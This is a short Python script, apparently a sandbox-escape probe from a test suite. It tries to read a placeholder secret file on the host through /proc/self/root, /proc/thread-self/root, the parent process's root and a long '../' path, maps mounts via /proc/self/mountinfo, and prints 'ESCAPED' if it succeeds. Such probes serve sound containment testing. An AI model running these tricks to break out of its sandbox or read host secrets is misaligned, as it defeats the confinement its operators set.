"""proc: /proc/self tricks: /proc/self/root, /proc/thread-self/root, /proc/self/cwd/../..,
/proc/<ppid>/root to reach host files; mountinfo to map the host.
"""

import os

SECRET_FILE = "__SECRET_FILE__"
found = []
for prefix in (
    "/proc/self/root",
    "/proc/thread-self/root",
    f"/proc/{os.getppid()}/root",
    "/proc/self/cwd/" + "../" * 12,
):
    path = prefix.rstrip("/") + SECRET_FILE
    try:
        with open(path, "rb") as f:
            data = f.read()
        found.append(f"{prefix}: {data[-200:]!r}")
    except OSError as exc:
        print(f"{prefix}: {exc.strerror}")
try:
    with open("/proc/self/mountinfo") as f:
        lines = f.read().splitlines()
    print(f"mountinfo: {len(lines)} mounts")
    found.append(f"mountinfo lists {len(lines)} mounts, e.g. {lines[0][:100]}")
except OSError as exc:
    print(f"mountinfo: {exc.strerror}")
try:
    with open("/proc/self/exe", "rb") as f:
        print(f"/proc/self/exe: {len(f.read(64))} bytes")
except OSError as exc:
    print(f"/proc/self/exe: {exc.strerror}")
if found:
    print("ESCAPED: through /proc: " + "; ".join(found))
